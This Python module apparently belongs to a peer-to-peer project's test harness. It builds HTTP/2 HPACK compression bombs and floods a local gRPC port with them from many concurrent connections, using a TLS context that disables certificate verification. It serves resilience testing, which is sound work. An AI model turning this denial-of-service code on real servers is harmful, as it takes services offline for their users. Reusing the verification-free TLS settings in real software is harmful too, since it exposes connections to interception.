"""Flood a gRPC port with HPACK bombs: a few bytes of compressed headers that stand for megabytes.

The first header has a name of 3 KB, and enters the table of the connection (RFC 7541, 6.2.1). After that, each byte
repeats it (6.1).
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import socket
import ssl
import tempfile

import psutil

from harness.identities import identity_of
from harness.patience import AT_ONCE_S
from noloco_p2p.net.session import Session

NAME_BYTES = 3000  # the table of a connection holds 4,096 bytes
FRAME_BYTES = 16_384  # the largest frame of HTTP/2
HEADERS, SETTINGS, CONTINUATION, ACK = 1, 4, 9, 1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def bomb(num_bytes: int, *, acknowledges: bool, frame_bytes: int = FRAME_BYTES) -> bytes:
    """Return the bytes of a connection that begins a call of Status whose headers never end.

    acknowledges: whether it first acknowledges the settings of the server, as it should.
    """
    block = b"\x83\x87\x04" + _string(b"/noloco_p2p.wire.v1.Peer/Status") + b"\x01" + _string(b"noloco")
    block += b"\x40" + _string(b"a" * NAME_BYTES) + _string(b"")
    block = block.ljust(num_bytes, b"\xbe")  # 62 is the newest header of the table
    pieces = [block[start : start + frame_bytes] for start in range(0, len(block), frame_bytes)]
    kinds = itertools.chain((HEADERS,), itertools.repeat(CONTINUATION))
    frames = b"".join(frame(kind, piece, stream=1) for kind, piece in zip(kinds, pieces, strict=False))
    settings = frame(SETTINGS) + (frame(SETTINGS, flags=ACK) if acknowledges else b"")
    return PREFACE + settings + frames


def frame(kind: int, payload: bytes = b"", *, stream: int = 0, flags: int = 0) -> bytes:
    return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload


def _string(data: bytes) -> bytes:
    """Return a string literal without Huffman coding (RFC 7541, 5.2)."""
    rest = len(data) - 127
    if rest < 0:
        return bytes((len(data),)) + data
    return bytes((127, rest % 128 + 128, rest // 128)) + data


class Bombers:
    """Throw bombs from `num` connections at a time. Each connection ends when the server has begun to answer."""

    def __init__(self, port: int, data: bytes, *, num: int, hosts: list[str]) -> None:
        self.num_bombs = 0
        self._port, self._data = port, data
        self._hosts = itertools.cycle(hosts)
        self._tls = trusting(Session(identity_of("bomber")))
        self._tasks = [asyncio.create_task(self._throw()) for _ in range(num)]

    async def thrown(self, num: int) -> None:
        """Wait until `num` more bombs have been thrown."""
        until = self.num_bombs + num
        while self.num_bombs < until:  # noqa: ASYNC110 - many tasks count
            await asyncio.sleep(0.01)

    async def end(self) -> None:
        for task in self._tasks:
            task.cancel()
        await asyncio.gather(*self._tasks, return_exceptions=True)

    async def _throw(self) -> None:
        while True:
            with contextlib.suppress(OSError, RuntimeError):  # uvloop raises it for a lost connection
                reader, writer = await asyncio.open_connection(
                    "127.0.0.1", self._port, ssl=self._tls, local_addr=(next(self._hosts), 0)
                )
                try:
                    writer.write(self._data)
                    self.num_bombs += 1
                    await reader.read(1)
                finally:
                    writer.transport.abort()


def trusting(session: Session | None = None) -> ssl.SSLContext:
    """Return the TLS settings of a caller that trusts everybody, and is nobody without a session."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    if session:
        with tempfile.NamedTemporaryFile() as file:
            file.write(session.private_pem + session.caller_pem)
            file.flush()
            context.load_cert_chain(file.name)
    return context


def port_of(process: psutil.Process) -> int:
    """Return the TCP port on which a peer serves its callers."""
    ports = {each.laddr.port for each in process.net_connections("tcp") if each.status == psutil.CONN_LISTEN}
    return next(port for port in ports if _speaks_tls(port))


def _speaks_tls(port: int) -> bool:
    try:
        with (
            socket.create_connection(("127.0.0.1", port), AT_ONCE_S) as plain,
            trusting().wrap_socket(plain) as connection,
        ):
            return connection.selected_alpn_protocol() == "h2"
    except OSError:
        return False
